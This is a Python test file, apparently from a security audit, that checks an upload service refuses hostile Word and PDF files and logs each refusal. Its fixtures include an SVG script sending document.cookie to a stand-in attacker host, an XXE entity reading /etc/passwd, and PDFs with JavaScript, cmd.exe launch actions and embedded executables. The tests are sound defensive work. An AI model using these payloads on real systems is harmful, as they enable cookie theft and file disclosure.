"""Finding 8: upload pipeline gaps. Embedded content by other names (an executable, a package
relationship to an embedded zip of a macro presentation, an image that is not one, SVG with a
script), a UTF-16 part with a DOCTYPE, PDFs that run JavaScript, launch programs, embed files or
carry XFA, and a zip with false sizes: each refused with 4xx naming what it found (415 for a part
the service does not accept), nothing stored, the refusal on the review's trail."""

from __future__ import annotations

import io
import struct
import zipfile

import pikepdf
import pytest
from sqlalchemy import func, select

from services.storage.models import Document
from tests.fakes.hostile import rebuild, valid_docx

AUTHOR = "chair.penhallow@pool.demo.local"
TYPES = "[Content_Types].xml"
PPTM = "application/vnd.ms-powerpoint.presentation.macroEnabled.12"


def _types(source: bytes, extra: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(source)) as package:
        types = package.read(TYPES).decode("utf-8")
    return types.replace("</Types>", extra + "</Types>").encode("utf-8")


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, body in files.items():
            package.writestr(name, body)
    return out.getvalue()


def with_part(name: str, body: bytes, content_type: str | None, rels: bytes | None = None) -> bytes:
    good = valid_docx()
    replace = {}
    if content_type:
        replace[TYPES] = _types(
            good, f'<Override PartName="/{name}" ContentType="{content_type}"/>'
        )
    if rels is not None:
        replace["_rels/.rels"] = rels
    return rebuild(good, replace=replace, add={name: body})


def utf16_with_doctype() -> bytes:
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return rebuild(valid_docx(), replace={"word/document.xml": xml.encode("utf-16")})


def package_relationship_to_a_macro_presentation() -> bytes:
    good = valid_docx()
    with zipfile.ZipFile(io.BytesIO(good)) as package:
        rels = package.read("_rels/.rels").decode("utf-8")
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/package" Target="extra/slides.zip"/></Relationships>',
    )
    inner = _zip({TYPES: PPTM.encode(), "ppt/vbaProject.bin": b"\0" * 64})
    return rebuild(
        good,
        replace={
            "_rels/.rels": rels.encode(),
            TYPES: _types(good, '<Default Extension="zip" ContentType="application/zip"/>'),
        },
        add={"extra/slides.zip": inner},
    )


SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.invalid/"+document.cookie)'
    b"</script><rect width='1' height='1'/></svg>"
)


def false_sizes() -> bytes:
    """A package whose central directory understates document.xml's size."""
    data = bytearray(valid_docx("A longer paragraph " * 50))
    at = data.rfind(b"word/document.xml")  # the central directory entry's name
    entry = data.rfind(b"PK\x01\x02", 0, at)
    struct.pack_into("<I", data, entry + 24, 10)  # uncompressed size: 10 bytes
    return bytes(data)


EXE = b"MZ\x90\x00"
WORD_CASES = [
    (
        "an executable under embeddings",
        with_part("word/embeddings/setup.exe", EXE, "application/x-msdownload"),
        415,
        "word/embeddings/setup.exe",
    ),
    (
        "an executable with no content type",
        with_part("word/tools/setup.exe", EXE, None),
        415,
        "word/tools/setup.exe",
    ),
    (
        "a package relationship to an embedded macro presentation",
        package_relationship_to_a_macro_presentation(),
        415,
        "extra/slides.zip",
    ),
    (
        "a zip claiming to be a PNG",
        with_part("word/media/image9.png", _zip({"a": b"b"}), "image/png"),
        415,
        "word/media/image9.png",
    ),
    (
        "an SVG with a script",
        with_part("word/media/image1.svg", SVG_SCRIPT, "image/svg+xml"),
        415,
        "word/media/image1.svg",
    ),
    ("a UTF-16 document.xml with a DOCTYPE", utf16_with_doctype(), 422, "word/document.xml"),
    ("a zip with false sizes", false_sizes(), 422, "not a readable Office package"),
]


def documents(app) -> int:
    with app.extensions["dhr"].sessions() as session:
        return session.scalar(select(func.count()).select_from(Document))


def send(caller, name: str, data: bytes, kind="other"):
    return caller.send("reviews/1/documents", {"kind": kind, "title": "Upload"}, (name, data))


@pytest.mark.parametrize(
    ("case", "data", "status", "named"), WORD_CASES, ids=[c[0] for c in WORD_CASES]
)
def test_a_hostile_word_file_is_refused_naming_what_it_found(app, api, case, data, status, named):
    author = api.as_(AUTHOR)
    before = documents(app)
    refused = send(author, "report.docx", data)
    assert refused.status_code == status, refused.json
    assert named in refused.json["detail"]
    assert documents(app) == before
    trail = api.as_("coordinator@demo.local").get("reviews/1/audit").json["entries"]
    assert trail[-1]["action"] == "document.upload_refused"


def _pdf(change=None) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if change:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _javascript(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )


def _launch(pdf):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))


def _embedded(pdf):
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00", filename="setup.exe"
    )


def _xfa(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))


@pytest.mark.parametrize(
    ("case", "change", "found"),
    [
        ("JavaScript in the open action", _javascript, "JavaScript"),
        ("a launch action in a link annotation", _launch, "Launch"),
        ("an embedded executable", _embedded, "EmbeddedFiles"),
        ("an XFA form", _xfa, "XFA"),
    ],
)
def test_a_pdf_that_can_act_is_refused(app, api, case, change, found):
    author = api.as_(AUTHOR)
    before = documents(app)
    refused = send(author, "qa-letter.pdf", _pdf(change), kind="letter")
    assert refused.status_code == 415, refused.json
    assert refused.json["reason"] == "active_pdf" and found in refused.json["detail"]
    assert documents(app) == before


def test_a_plain_pdf_and_every_shipped_template_are_accepted(app, api):
    from services.documents.catalogue import CATALOGUE

    author = api.as_(AUTHOR)
    assert send(author, "qa-letter.pdf", _pdf(), kind="letter").status_code == 201
    for template in CATALOGUE.values():
        made = send(author, f"t.{template.file_type}", template.default_bytes())
        assert made.status_code == 201, (template.name, made.json)
